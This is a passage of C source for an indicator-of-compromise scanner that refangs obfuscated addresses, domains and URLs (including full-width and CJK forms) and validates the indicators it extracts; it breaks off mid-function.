/*
 * The indicator scanner. Two passes over a chunk of text: refang it (a
 * rewrite that keeps, for every byte it writes, the input offset and
 * whether it was defanged), then cut the result into tokens with a byte
 * table and try each token against the shapes of indicators. Validation
 * is strict, because an invented indicator mails an innocent network:
 * addresses through inet_pton, domains through libidn2 and a public
 * suffix that libpsl lists (never its catch-all rule).
 */
#include "config.h"

#include <arpa/inet.h>
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#ifdef __SSE2__
#include <emmintrin.h>
#endif

#include <idn2.h>
#include <libpsl.h>

#include "buf.h"
#include "csvreport.h"
#include "digest.h"
#include "err.h"
#include "ioc.h"
#include "ipaddr.h"
#include "strmap.h"
#include "xmalloc.h"

#define TLD_SEEN 64
#define HDR_SKIPS 32	/* skip_ranges of a line of pasted fields */

struct ioc_scanner {
	const psl_ctx_t *psl;
	struct buf text;	/* the refanged chunk */
	struct edit *edits;	/* where refanging changed it, in order */
	size_t nedits, alloc;
	size_t edit_hint;	/* edit_after's last answer */
	size_t cut_hint;	/* the same for edits_sig, which scan asks
				 * of tokens ahead of those it reads */
	struct buf value;	/* a normalized value being built */
	int name_said;		/* domain_ok's name is a host only where
				 * the text says so */
	int fanged;		/* the URL emitted was defanged where no
				 * edit says so: "ttps://" */
	struct buf url;		/* a URL or address being built */
	ioc_fn fn;
	void *arg;
	size_t base;
	int stop;
	enum ioc_class last_class;	/* of the last IPv6 address parsed */
	struct name_cache *names;	/* domain_ok's answers */
	struct tld_seen {		/* tld_kind's, one a slot */
		char tld[24];		/* "" for none */
		int kind;
	} tlds[TLD_SEEN];
	unsigned short cls[256];	/* byte classes, C_* */
	/* Wrapped links (SafeLinks, URL Defense, Google's /url): their
	 * targets, decoded, NUL after each, scanned by inner after the
	 * text, as found where the wrapper was. */
	struct buf wrapped;
	struct wrap { size_t at, off, len; } *wraps;
	size_t nwraps, wraps_alloc;
	struct ioc_scanner *inner;	/* NULL until needed */
	int nested;			/* how deep an inner one: 0 the
					 * outermost */
	/* ioc_scan_into's set, and its memo of tokens: see scan */
	struct ioc_set *set;
	const struct ioc_allowlist *al;
	int memo_want;		/* the token is to be remembered */
	int memo_admit;		/* ... and seen before: see memo_seen */
	unsigned memo_emits;	/* indicators it gave */
	uint32_t memo_idx[2];	/* the first two's entries (index + 1), 0
				 * when not added at once */
	size_t memo_va;		/* where version_before or host_said was
				 * asked */
	int memo_version;	/* their answers: 0 when neither was asked;
				 * VB_NO or VB_YES, HS_NO or HS_YES */
	int memo_outside;	/* it read outside its bytes: past its
				 * end ("AS 4134"), or what is before it */
	struct miss_slot *miss;	/* MISS_SLOTS, NULL until needed */
	size_t version_a;	/* version_before's last question in this
				 * text (SIZE_MAX: none) */
	int version_yes;	/* ... and its answer */
	/* A pasted header field's parts that give nothing (skip_range):
	 * the last field's, all before skip_hi */
	size_t skips[HDR_SKIPS][2];
	unsigned nskips;
	size_t skip_hi;
	/* A CSV report's columns (ioc_scanner_columns; kinds NULL: the
	 * text is text), and the chunk's host cells as csv_cells found
	 * them: [start, end) pairs, in order */
	struct ioc_columns cols;	/* its kinds in cells' block */
	size_t *cells;		/* a line's first cols.n cells' bounds */
	size_t *hosts;
	size_t nhosts, hosts_alloc;
};

enum { VB_NO = 1, VB_YES = 2, VB_MASK = 3, HS_NO = 4, HS_YES = 8,
	HS_MASK = 12 };

/* A token remembered with the entry it gave (see scan). */
#define MEMO_KEY 44		/* a token's bytes kept in its slot */
#define MEMO_MAX 65536		/* tokens remembered at most */
#define MEMO_EAGER 16384	/* taken at first sight until so many
				 * (see memo_seen) */
/* A longer one (a SHA-256, 64) keeps its first MEMO_HEAD bytes and where
 * its entry's value (the same bytes) is: compared without reading the
 * entry first, a second wait on memory. */
#define MEMO_HEAD (MEMO_KEY - sizeof(const char *))

struct memo_slot {		/* 64 bytes: a cache line */
	uint64_t hash;
	uint32_t idx;		/* the entry's index + 1; 0: a free slot */
	uint16_t len;		/* the token's length */
	uint8_t at;		/* where version_before was asked, from its
				 * start */
	uint8_t version;	/* 0, or the answers of version_before(at)
				 * and host_said(at) it holds for (as
				 * memo_version) */
	uint32_t count;		/* its occurrences counted here, not yet on
				 * the entry (see ioc_set_flush) */
	char key[MEMO_KEY];	/* its bytes, or MEMO_HEAD of them and a
				 * pointer to its entry's value */
};

/* A token that gave nothing: those are kept in a table of MISS_SLOTS,
 * one a slot, the last one there staying (a log's timestamps are all
 * different, its "offline." and "report.pdf" the same). */
#define MISS_SLOTS 4096
#define MISS_KEY 52

struct miss_slot {		/* 64 bytes */
	uint64_t hash;
	uint16_t len;		/* 0: a free slot */
	uint8_t at, version;	/* as memo_slot's */
	char key[MISS_KEY];
};

static uint32_t set_add_at_once(struct ioc_set *set, const struct ioc *ioc,
    const struct ioc_allowlist *al);
static struct memo_slot *memo_hit(const struct ioc_set *set,
    const char *tok, size_t len, uint64_t h);
static void memo_put(struct ioc_set *set, const char *tok, size_t len,
    uint64_t h, uint32_t idx, size_t at, int version);
static void memo_count(struct ioc_set *set, struct memo_slot *m);
static void memo_prefetch(const struct ioc_set *set, uint64_t h);
static int slash_hosts(struct ioc_scanner *sc, size_t h, size_t b,
    int emitting);
struct url_slot;
static struct url_slot *url_hit(struct ioc_set *set, const char *url,
    size_t len, uint64_t h);
static void url_put(struct ioc_set *set, const char *url, size_t len,
    uint64_t h, const uint32_t idx[2]);
static void url_count(struct ioc_set *set, struct url_slot *u);
static int memo_seen(struct ioc_set *set, uint64_t h);
static int memo_room(const struct ioc_set *set);
struct cuts;
static void cuts_read(struct ioc_scanner *sc, struct cuts *w);
static void host_path(struct ioc_scanner *sc, size_t a, size_t h, int link,
    enum ioc_type type, const char *host, enum ioc_class class);
static size_t port_path(const struct ioc_scanner *sc, size_t h, size_t b);

enum {
	C_SEP = 1, C_ALNUM = 2, C_HEX = 4, C_DIGIT = 8, C_HOST = 16,
	C_LTRIM = 32,		/* trimmed from a token's start */
	C_RTRIM = 64,		/* trimmed from a token's end */
	C_NOURL = 128,		/* never in a URL */
	C_URLTRIM = 256,	/* trimmed from a URL's end */
	C_HOSTEND = 512,	/* ends a host: ":/?#" */
	C_LINESTART = 1024,	/* may start a line skip_line skips */
	C_MARK = 2048,		/* ".:@": in every address, network,
				 * name */
	C_TOKSTOP = 4096,	/* the token loop looks closer: C_SEP, ':',
				 * 0xe3.. (CJK punctuation), NUL */
	C_DOT = 8192, C_COLON = 16384, C_AT = 32768,	/* which mark */
};

static void
mark(unsigned short *cls, const char *set, unsigned short bit)
{
	for (; *set; set++)
		cls[(unsigned char)*set] |= bit;
}

static void
init_classes(unsigned short *cls)
{
	int c;

	/* '=' too: "src=192.0.2.1 dst=..." (URLs keep theirs: try_url
	 * takes a URL whole from its scheme) */
	mark(cls, " \t\r\n\v\f<>\"'`(){}[],;|\\^*!=", C_SEP);
	mark(cls, ".-_/#=+~@", C_LTRIM);
	mark(cls, ".,;!?-/#=+~@_", C_RTRIM);
	mark(cls, "<>\"'`\\{}|^\x7f", C_NOURL);
	mark(cls, ".,;:!?'*", C_URLTRIM);
	mark(cls, ":/?#", C_HOSTEND);
	mark(cls, "mMrRiIcCxXaA- \t>123456789", C_LINESTART);
	mark(cls, ".:@", C_MARK);
	mark(cls, ".", C_DOT);
	mark(cls, ":", C_COLON);
	mark(cls, "@", C_AT);
	mark(cls, ":", C_TOKSTOP);
	for (c = 0; c <= ' '; c++)
		cls[c] |= C_NOURL;
	for (c = 0; c < 256; c++) {
		if ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') ||
		    (c >= '0' && c <= '9'))
			cls[c] |= C_ALNUM | C_HOST;
		if ((c >= 'a' && c <= 'f') || (c >= 'A' && c <= 'F') ||
		    (c >= '0' && c <= '9'))
			cls[c] |= C_HEX;
		if (c >= '0' && c <= '9')
			cls[c] |= C_DIGIT;
		if (c >= 0x80 || c == '-' || c == '.')
			cls[c] |= C_HOST;
		if ((cls[c] & C_SEP) || c >= 0xe3 || c == 0xc2 || c == 0xe2 ||
		    c == 0)
			cls[c] |= C_TOKSTOP;	/* (0xc2, 0xe2: see uni_sep) */
	}
}

const char *
ioc_type_name(enum ioc_type t)
{
	static const char *const names[] = {
		"ipv4", "ipv6", "cidr", "domain", "url", "email", "md5",
		"sha1", "sha256", "sha512", "cve", "asn",
	};

	return t < IOC_NTYPES ? names[t] : "?";
}

const char *
ioc_class_name(enum ioc_class c)
{
	static const char *const names[] = {
		"public", "private", "loopback", "link-local", "documentation",
		"multicast", "reserved",
	};

	return names[c];
}

/*
 * Reports name the same hosts again and again: domain_ok's answer for a
 * host as written (and whether context allowed a file-like suffix) is
 * kept, up to NAME_CACHE entries, then the cache starts over. The table
 * starts small and doubles as it fills (at most half its slots taken):
 * most scanners see a few names (a receive session makes one for each
 * message), a few see hundreds of thousands.
 */
#define NAME_CACHE 32768	/* entries; slots: at most 2 * NAME_CACHE */
#define NAME_SLOTS0 256		/* slots to start with */
#define NAME_INLINE 36		/* names this long are kept in their slot:
				 * a hit reads one cache line */
enum { NAME_NO, NAME_SAME, NAME_OTHER, NAME_SAID };

struct name_entry {		/* one cache line (64-bit) */
	uint64_t hash;
	char *raw;	/* as written, when longer than NAME_INLINE */
	char *name;	/* normalized when not the same as written, or NULL */
	uint16_t len;	/* of the name as written; 0: a free slot */
	uint8_t flag;	/* the context flag */
	uint8_t state;	/* NAME_NO, NAME_SAME (name = as written),
			 * NAME_OTHER, NAME_SAID (none, but where the
			 * text says host: domain_check's 2) */
	char key[NAME_INLINE];	/* as written, when it fits */
};

struct name_cache {
	struct name_entry *slot;
	uint16_t *used;		/* the slots taken, in order */
	size_t n, size;		/* taken; slots (a power of two) */
};

static struct name_cache *
cache_new(void)
{
	struct name_cache *c = xcalloc(1, sizeof(*c));

	c->size = NAME_SLOTS0;
	c->slot = xcalloc_lines(c->size, sizeof(*c->slot));
	c->used = xcalloc(c->size / 2, sizeof(*c->used));
	return c;
}

/* Only the slots taken are touched. */
static void
cache_clear(struct name_cache *c)
{
	size_t k;

	for (k = 0; k < c->n; k++) {
		struct name_entry *e = &c->slot[c->used[k]];

		free(e->raw);
		free(e->name);
		memset(e, 0, sizeof(*e));
	}
	c->n = 0;
}

static void
cache_free(struct name_cache *c)
{
	if (c == NULL)
		return;
	cache_clear(c);
	free(c->slot);
	free(c->used);
	free(c);
}

/* The slot for raw[0..n) and flag: found (raw set) or free. */
static struct name_entry *
cache_slot(struct name_cache *c, const char *raw, size_t n, int flag,
    uint64_t h)
{
	size_t mask = c->size - 1, i = h & mask;

	for (;; i = (i + 1) & mask) {
		struct name_entry *e = &c->slot[i];

		if (e->len == 0 || (e->hash == h && e->len == n &&
		    e->flag == flag && digest_table_same(n <= NAME_INLINE ?
		    e->key : e->raw, raw, n)))
			return e;
	}
}

/* Room for one more entry: the table doubled while it may grow, else
 * emptied once NAME_CACHE entries are kept. */
static void
cache_make_room(struct name_cache *c)
{
	struct name_entry *old = c->slot;
	size_t k, mask;

	if (c->n < c->size / 2)
		return;
	if (c->size >= 2 * NAME_CACHE) {
		cache_clear(c);
		return;
	}
	c->size = lines_grow(c->size, sizeof(*c->slot));
	if (c->size > 2 * NAME_CACHE)	/* used[] holds 16 bits */
		c->size = 2 * NAME_CACHE;
	mask = c->size - 1;
	c->slot = xcalloc_lines(c->size, sizeof(*c->slot));
	c->used = xreallocarray(c->used, c->size / 2, sizeof(*c->used));
	for (k = 0; k < c->n; k++) {
		struct name_entry *e = &old[c->used[k]];
		size_t i = e->hash & mask;

		while (c->slot[i].len != 0)
			i = (i + 1) & mask;
		c->slot[i] = *e;
		c->used[k] = (uint16_t)i;
	}
	free(old);
}

struct ioc_scanner *
ioc_scanner_new(void)
{
	struct ioc_scanner *sc = xcalloc(1, sizeof(*sc));

	init_classes(sc->cls);
	sc->psl = psl_builtin();
	sc->names = cache_new();
	buf_init(&sc->text, 0);
	buf_init(&sc->value, 0);
	buf_init(&sc->url, 0);
	buf_init(&sc->wrapped, 0);
	return sc;
}

void
ioc_scanner_free(struct ioc_scanner *sc)
{
	if (sc == NULL)
		return;
	buf_release(&sc->text);
	buf_release(&sc->value);
	buf_release(&sc->url);
	buf_release(&sc->wrapped);
	free(sc->wraps);
	ioc_scanner_free(sc->inner);
	free(sc->miss);
	free(sc->edits);
	free(sc->hosts);
	free(sc->cells);
	cache_free(sc->names);
	free(sc);
}

void
ioc_scanner_columns(struct ioc_scanner *sc, const struct ioc_columns *cols)
{
	static const struct ioc_columns text = { NULL, 0, ',' };
	unsigned char *kinds;

	sc->cols = cols && cols->kinds && cols->n ? *cols : text;
	sc->nhosts = 0;
	free(sc->cells);
	sc->cells = NULL;
	if (sc->cols.kinds == NULL)
		return;
	/* a line's cells' bounds, then the kinds, ours: one block */
	sc->cells = xreallocarray(NULL, sc->cols.n, 2 * sizeof(*sc->cells) +
	    1);
	kinds = (unsigned char *)(sc->cells + 2 * sc->cols.n);
	sc->cols.kinds = memcpy(kinds, cols->kinds, cols->n);
}

/*
 * Refanging. At each position one rule may apply. Text that no rule
 * touches is copied; each rewrite is recorded as an edit, so that the
 * scanner can map an output position back to the input and tell whether
 * an indicator was written defanged. Refanging never lengthens text.
 */
struct edit {
	size_t out, outlen;	/* what was written */
	size_t in, inlen;	/* in place of these input bytes */
	int fold;		/* a URL's line break taken out (fold_url),
				 * not a defang */
};

#define FOLD_SPAN 4096	/* bytes from '<' to '>' of a folded URL, at most */
#define FOLD_MAX 64	/* its line breaks, at most */

struct out {
	struct buf *text;
	struct edit **edits;	/* NULL: none kept */
	size_t *nedits, *alloc;
	size_t folds[FOLD_MAX][2];	/* fold_url's breaks: at, length */
	size_t nfolds, fold;		/* how many; the next to take out */
};

static void
put(struct out *o, const char *s, size_t n)
{
	buf_add(o->text, s, n);
}

/* Write rep in place of the consumed input bytes at src. */
static void
subst(struct out *o, const char *rep, size_t n, size_t src, size_t consumed)
{
	struct edit *e;

	if (o->edits) {
		if (*o->nedits == *o->alloc) {
			*o->alloc = *o->alloc ? 2 * *o->alloc : 64;
			*o->edits = xreallocarray(*o->edits, *o->alloc,
			    sizeof(**o->edits));
		}
		e = &(*o->edits)[(*o->nedits)++];
		e->out = o->text->len;
		e->outlen = n;
		e->in = src;
		e->inlen = consumed;
		e->fold = 0;
	}
	buf_add(o->text, rep, n);
}

/* Take out the consumed input bytes at src, a line break in a folded
 * URL (fold_url). */
static void
unfold(struct out *o, size_t src, size_t consumed)
{
	subst(o, "", 0, src, consumed);
	if (o->edits)
		(*o->edits)[*o->nedits - 1].fold = 1;
}

static int
is_alnum(int c)
{
	return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') ||
	    (c >= '0' && c <= '9') || c >= 0x80;
}

static int
opener(int c)
{
	return c == '[' || c == '(' || c == '{';
}

static int
closer(int c)
{
	return c == ']' || c == ')' || c == '}';
}

/* Whether s (n bytes) starts with p, in any case. */
static int
ci_prefix(const char *s, size_t n, const char *p)
{
	size_t k = strlen(p);

	return n >= k && strncasecmp(s, p, k) == 0;
}

/* The last byte written, or 0. */
static int
last(const struct out *o)
{
	return o->text->len ? (unsigned char)o->text->data[o->text->len - 1] : 0;
}

/* What a bracketed form holds, and what it stands for. */
static const struct bracket_form {
	const char *inner, *rep;
} bracket_forms[] = {
	{ ".", "." }, { "dot", "." }, { ":", ":" }, { "://", "://" },
	{ "//", "//" }, { "/", "/" }, { "@", "@" }, { "at", "@" },
};

/* What a bracketed form holds at s[k] and its closing bracket after it
 * (any of "])}", or Markdown's "\]" when esc): the bytes of both, 0 if
 * none; *rep is what it stands for. */
static inline size_t
bracket_inside(const char *s, size_t n, size_t k, int esc, const char **rep)
{
	const struct bracket_form *f = bracket_forms;
	size_t j, len;

	for (j = 0; j < sizeof(bracket_forms) / sizeof(*f); j++) {
		len = strlen(f[j].inner);
		if (k + len + 1 + (size_t)esc <= n &&
		    strncasecmp(s + k, f[j].inner, len) == 0 && (esc ?
		    s[k + len] == '\\' && s[k + len + 1] == ']' :
		    closer((unsigned char)s[k + len]))) {
			*rep = f[j].rep;
			return len + 1 + (size_t)esc;
		}
	}
	return 0;
}

/* A bracketed form at s[i]: "[.]", "(dot)", "[:]", "[://]", "[//]",
 * "[/]", "[@]", "[at]", with any mix of brackets ("(.}"). Bytes
 * consumed, 0 if none; *rep is what it stands for. */
static size_t
bracketed(const char *s, size_t n, size_t i, const char **rep)
{
	size_t k;

	/* most brackets hold words: "(first seen", "[CNCERT #12]" */
	if (i + 3 > n || !strchr(".:/@dDaA", s[i + 1]) || s[i + 1] == '\0')
		return 0;
	return (k = bracket_inside(s, n, i + 1, 0, rep)) != 0 ? k + 1 : 0;
}

/* The same in square brackets escaped as Markdown writes them, at
 * s[i]: "evil\[.\]com", "hxxp\[://\]", "abuse\[@\]evil.com" (an
 * indicator list through a converter). Bytes consumed, 0 if none. */
static size_t
escaped_bracketed(const char *s, size_t n, size_t i, const char **rep)
{
	size_t k;

	if (i + 5 > n || s[i + 1] != '[')
		return 0;
	return (k = bracket_inside(s, n, i + 2, 1, rep)) != 0 ? k + 2 : 0;
}

/* "hxxp", "hXXps", "h**p", "h__p", "h[tt]p", "fxp" before ":" or "[:":
 * the scheme it is, and the bytes it takes; 0 when none. */
static size_t
scheme_fang(const char *s, size_t n, size_t i, const char **rep)
{
	size_t k = i;
	/* "：hxxp" starts a scheme; "clickhxxp://" may (glued_scheme) */
	int glued = i > 0 && is_alnum((unsigned char)s[i - 1]) &&
	    (unsigned char)s[i - 1] < 0x80;

	if ((k + 4 <= n && (s[k] | 0x20) == 'h' &&
	    (((s[k + 1] | 0x20) == 'x' && (s[k + 2] | 0x20) == 'x') ||
	    (s[k + 1] == '*' && s[k + 2] == '*') ||
	    (s[k + 1] == '_' && s[k + 2] == '_')) &&
	    (s[k + 3] | 0x20) == 'p' && (k += 4)) ||
	    (k + 6 <= n && (s[k] | 0x20) == 'h' &&
	    opener((unsigned char)s[k + 1]) && (s[k + 2] | 0x20) ==
	    (s[k + 3] | 0x20) && ((s[k + 2] | 0x20) == 't' ||
	    (s[k + 2] | 0x20) == 'x') && closer((unsigned char)s[k + 4]) &&
	    (s[k + 5] | 0x20) == 'p' && (k += 6))) {	/* "h[tt]p", "h[xx]p" */
		*rep = "http";
		if (k < n && (s[k] == 's' || s[k] == 'S')) {
			*rep = "https";
			k++;
		} else if (k + 3 <= n && opener((unsigned char)s[k]) &&
		    (s[k + 1] | 0x20) == 's' &&
		    closer((unsigned char)s[k + 2])) {
			*rep = "https";	/* "hxxp[s]://" (optional_s) */
			k += 3;
		}
	} else if (k + 3 <= n && (s[k] | 0x20) == 'f' &&
	    (s[k + 1] | 0x20) == 'x' && (s[k + 2] | 0x20) == 'p') {
		k += 3;
		*rep = "ftp";
	} else {
		return 0;
	}
	if (glued)	/* a word's end only before "://" itself */
		return (k + 3 <= n && memcmp(s + k, "://", 3) == 0) ||
		    (k + 5 <= n && (memcmp(s + k, "[://]", 5) == 0 ||
		    memcmp(s + k, "[:]//", 5) == 0)) ? k - i : 0;
	if (k < n && (s[k] == ':' || (s[k] == '[' && k + 1 < n &&
	    s[k + 1] == ':') || (s[k] == '\\' && k + 2 < n &&
	    s[k + 1] == '[' && s[k + 2] == ':')))	/* Markdown's "\[:" */
		return k - i;
	return 0;
}

/* A scheme or its first letter in brackets, before ':' or "[:":
 * "[h]ttp://", "[hxxps]://", "(http)://", "[ftp]://". The scheme it is,
 * and the bytes it takes; 0 when none ("(http://evil.com)" is a link in
 * parentheses, "[h]ello" a word). */
static size_t
bracketed_scheme(const char *s, size_t n, size_t i, const char **rep)
{
	static const struct {
		const char *written, *scheme;
	} schemes[] = {
		{ "https", "https" }, { "http", "http" }, { "hxxps", "https" },
		{ "hxxp", "http" }, { "ftp", "ftp" }, { "fxp", "ftp" },
		{ NULL, NULL },
	};
	size_t k, len;
	int j;

	if (i + 6 > n || ((s[i + 1] | 0x20) != 'h' &&
	    (s[i + 1] | 0x20) != 'f') || (i > 0 &&
	    is_alnum((unsigned char)s[i - 1]) &&
	    (unsigned char)s[i - 1] < 0x80))
		return 0;	/* "x[http]://": a word's */
	for (k = i + 1; k < n && k < i + 7 && (s[k] | 0x20) >= 'a' &&
	    (s[k] | 0x20) <= 'z'; k++)
		;
	if (k >= n || !closer((unsigned char)s[k]))
		return 0;	/* "(http://evil.com)", "(first seen" */
	len = k - i - 1;
	if (len == 1 && (s[i + 1] | 0x20) == 'h') {
		k++;	/* "[h]ttp", "[h]xxp" */
		if (k + 3 > n || (s[k] | 0x20) != (s[k + 1] | 0x20) ||
		    ((s[k] | 0x20) != 't' && (s[k] | 0x20) != 'x') ||
		    (s[k + 2] | 0x20) != 'p')
			return 0;
		k += 3;
		*rep = "http";
		if (k < n && (s[k] | 0x20) == 's') {
			*rep = "https";
			k++;
		}
	} else {
		for (j = 0; schemes[j].written &&
		    (strlen(schemes[j].written) != len ||
		    strncasecmp(s + i + 1, schemes[j].written, len) != 0); j++)
			;
		if (schemes[j].written == NULL)
			return 0;
		k++;
		*rep = schemes[j].scheme;
	}
	return k < n && (s[k] == ':' || (s[k] == '[' && k + 1 < n &&
	    s[k + 1] == ':')) ? k - i : 0;
}

/* "[s]" or "(s)" after "http", before ':' or "[:": the writer's "http
 * or https" ("http[s]://evil.com"), read as https. Bytes consumed, 0
 * when none. */
static size_t
optional_s(const struct out *o, const char *s, size_t n, size_t i)
{
	if (i + 4 > n || (s[i + 1] | 0x20) != 's' ||
	    !closer((unsigned char)s[i + 2]) || (s[i + 3] != ':' &&
	    !opener((unsigned char)s[i + 3])) || o->text->len < 4 ||
	    strncasecmp(o->text->data + o->text->len - 4, "http", 4) != 0)
		return 0;
	return 3;
}

/* "://[example.com]": brackets around a host name (not an IPv6
 * literal). Bytes consumed, 0 when none. */
static size_t
bracketed_host(struct out *o, const char *s, size_t n, size_t i)
{
	size_t k;

	if (o->text->len < 3 ||
	    memcmp(o->text->data + o->text->len - 3, "://", 3) != 0)
		return 0;
	for (k = i + 1; k < n && (s[k] == '.' || s[k] == '-' ||
	    is_alnum((unsigned char)s[k])); k++)
		;
	if (k == i + 1 || (k < n && s[k] == ':'))
		return 0;
	subst(o, s + i + 1, k - i - 1, i, k - i + (k < n && s[k] == ']'));
	return k - i + (k < n && s[k] == ']');
}

/* The ASCII character a full-width form (U+FF01..FF5E) at s[i] stands
 * for, or 0. */
static int
wide_ascii(const char *s, size_t n, size_t i)
{
	const unsigned char *u = (const unsigned char *)s + i;

	if (i + 3 > n || u[0] != 0xef)
		return 0;
	if (u[1] == 0xbc && u[2] >= 0x81 && u[2] <= 0xbf)
		return u[2] - 0x60;	/* U+FF01 '!' .. U+FF3F '_' */
	if (u[1] == 0xbd && u[2] >= 0x80 && u[2] <= 0x9e)
		return u[2] - 0x20;	/* U+FF40 '`' .. U+FF5E '~' */
	return 0;
}

/* s[i] as ASCII, a full-width form as what it stands for; 0 else. */
static int
ascii_at(const char *s, size_t n, size_t i)
{
	unsigned char c = i < n ? (unsigned char)s[i] : 0;

	return c < 0x80 ? c : wide_ascii(s, n, i);
}

/* How many ASCII digits s starts with: strspn(s, "0123456789") without
 * libc's call, whose SSE4.2 set-up costs more than the few digits it
 * looks at here (and more or less by where the literal lies). */
static inline size_t
digits_at(const char *s)
{
	size_t k = 0;

	while (s[k] >= '0' && s[k] <= '9')
		k++;
	return k;
}

static int
ascii_alnum(int c)
{
	return c > 0 && c < 0x80 && is_alnum(c);
}

/* A full-width or CJK bracket at s[i]: its length, *c what it stands
 * for ('(' or ')'); 0 if none. （［｛【 open, ）］｝】 close. */
static size_t
wide_bracket(const char *s, size_t n, size_t i, int *c)
{
	const unsigned char *u = (const unsigned char *)s + i;
	int w = wide_ascii(s, n, i);

	if (w == '(' || w == '[' || w == '{' || w == ')' || w == ']' ||
	    w == '}') {
		*c = w == '(' || w == '[' || w == '{' ? '(' : ')';
		return 3;
	}
	if (i + 3 <= n && u[0] == 0xe3 && u[1] == 0x80 &&
	    (u[2] == 0x90 || u[2] == 0x91)) {	/* 【 】 */
		*c = u[2] == 0x90 ? '(' : ')';
		return 3;
	}
	return 0;
}

/* A dot in brackets, one of them or more full-width or CJK:
 * "evil［.］com", "evil【.】com", "evil(。)com". Bytes it takes, 0 if
 * none. */
static size_t
wide_bracketed_dot(const char *s, size_t n, size_t i)
{
	size_t k, d;
	int c;

	if ((k = wide_bracket(s, n, i, &c)) == 0) {
		if (i >= n || !opener((unsigned char)s[i]))
			return 0;
		k = 1;
	} else if (c != '(') {
		return 0;
	}
	if (i + k < n && s[i + k] == '.')
		d = 1;
	else if (wide_ascii(s, n, i + k) == '.' ||
	    (i + k + 3 <= n && memcmp(s + i + k, "\xe3\x80\x82", 3) == 0))
		d = 3;
	else
		return 0;
	k += d;
	if (i + k < n && closer((unsigned char)s[i + k]))
		return k == 2 ? 0 : k + 1;	/* "[.]" is bracketed()'s */
	if (wide_bracket(s, n, i + k, &c) && c == ')')
		return k + 3;
	return 0;
}

/* Such a dot between the letters or digits of a name: written as '.'.
 * Bytes consumed, 0 when there is none. */
static size_t
wide_dot(struct out *o, const char *s, size_t n, size_t i)
{
	size_t k;

	if (!ascii_alnum(last(o)) || (k = wide_bracketed_dot(s, n, i)) == 0 ||
	    !ascii_alnum(ascii_at(s, n, i + k)))
		return 0;
	subst(o, ".", 1, i, k);
	return k;
}

/* Whether the name, number or link that ends at s[i] was written with
 * ASCII dots ("198.51.100.3" before "。2024年", "http://evil.com/x"):
 * then a full stop after it ends a sentence, where one after "192。0。2"
 * goes on with the address. */
static int
ascii_dotted_before(const char *s, size_t i)
{
	size_t k;

	for (k = i; k > 0 && i - k < 256; k--) {
		if (s[k - 1] == '.')
			return 1;
		if (k >= 3 && memcmp(s + k - 3, "。", 3) == 0)
			k -= 2;
		else if (!ascii_alnum((unsigned char)s[k - 1]) &&
		    s[k - 1] != '-' && s[k - 1] != '/')
			return 0;
	}
	return 0;
}

/* Whether the word at s[j] (ASCII letters, digits, '-') is a public
 * suffix: after a name written with ASCII dots, a full stop goes on
 * with it before one ("evil.com。cn") and ends a sentence before another
 * word ("evil.com。then"). */
static int
suffix_word(const char *s, size_t n, size_t j)
{
	char w[64];
	size_t k;

	for (k = 0; j + k < n && k < sizeof(w) - 1 &&
	    (ascii_alnum((unsigned char)s[j + k]) || s[j + k] == '-'); k++)
		w[k] = s[j + k];
	w[k] = '\0';
	return k > 0 && k < sizeof(w) - 1 &&
	    psl_is_public_suffix2(psl_builtin(), w, PSL_TYPE_ANY |
	    PSL_TYPE_NO_STAR_RULE);
}

/*
 * What a Chinese or Japanese input method types in its full-width mode:
 * "１９２．０．２．１", "ｅｖｉｌ．ｃｏｍ", "http：//", and the ideographic
 * full stop for a dot, "evil。com". Letters and digits become ASCII
 * wherever they are; the marks of a name ('.', '@', '-', '_') only
 * between letters or digits, a full stop only before a lower-case
 * letter or a digit (the end of a sentence is followed by a capital or
 * by more Chinese: "请处理1.2.3.4。谢谢"), before a digit not after a
 * name or number written with ASCII dots ("攻击源为198.51.100.3。2024年":
 * ascii_dotted_before); a colon after a letter and before '/', a slash
 * after a letter, digit, colon or slash. Bytes consumed, 0 when s[i]
 * stays.
 */
static size_t
wide_form(struct out *o, const char *s, size_t n, size_t i)
{
	const unsigned char *u = (const unsigned char *)s + i;
	int c = wide_ascii(s, n, i), prev = last(o), next, ok;
	size_t k;
	char rep;

	if ((k = wide_dot(o, s, n, i)) != 0)
		return k;
	if (i + 3 <= n && ((u[0] == 0xe3 && u[1] == 0x80 && u[2] == 0x82) ||
	    (u[0] == 0xef && u[1] == 0xbd && u[2] == 0xa1)))
		c = '.';	/* U+3002, U+FF61: ideographic full stops */
	if (c == 0)
		return 0;
	next = ascii_at(s, n, i + 3);
	if (ascii_alnum(c))
		ok = 1;
	else if (c == '.')
		ok = ascii_alnum(prev) && (((next >= 'a' && next <= 'z') &&
		    (!ascii_dotted_before(s, i) ||
		    suffix_word(s, n, i + 3))) || (next >= '0' &&
		    next <= '9' && !ascii_dotted_before(s, i)));
	else if (c == '@' || c == '-' || c == '_')
		ok = ascii_alnum(prev) && ascii_alnum(next);
	else if (c == ':')
		ok = ((prev | 0x20) >= 'a' && (prev | 0x20) <= 'z') &&
		    next == '/';
	else if (c == '/')
		ok = ascii_alnum(prev) || prev == ':' || prev == '/';
	else
		ok = 0;
	if (!ok)
		return 0;
	rep = (char)c;
	subst(o, &rep, 1, i, 3);
	return 3;
}

/*
 * A bracketed dot or at (bracketed: k bytes at s[i], standing for rep)
 * with a blank either side between name characters: "evil [.] com",
 * "abuse (at) evil (dot) com", "198.51.100 [.] 7". The blank before it
 * was put already, as written (no rewrite writes a blank), and is taken
 * back. Bytes consumed from s[i], 0 when it is not so.
 */
static size_t
spaced_bracket(struct out *o, const char *s, size_t n, size_t i, size_t k,
    const char *rep)
{
	size_t len = o->text->len;

	if ((rep[0] != '.' && rep[0] != '@') || len < 2 ||
	    o->text->data[len - 1] != ' ' ||
	    !is_alnum((unsigned char)o->text->data[len - 2]) ||
	    i + k + 1 >= n || s[i + k] != ' ' ||
	    !is_alnum((unsigned char)s[i + k + 1]))
		return 0;
	o->text->len--;
	subst(o, rep, 1, i - 1, k + 2);
	return k + 1;
}

/* U+2024 ONE DOT LEADER between a name's letters or digits, as spam
 * writes a dot so that no mail client links the name ("paypal\u2024com";
 * UTS #46 maps it to '.' too): a dot. Bytes consumed, 0 when s[i]
 * stays. */
static size_t
leader_dot(struct out *o, const char *s, size_t n, size_t i)
{
	const unsigned char *u = (const unsigned char *)s + i;

	if (i + 3 >= n || u[1] != 0x80 || u[2] != 0xa4 ||
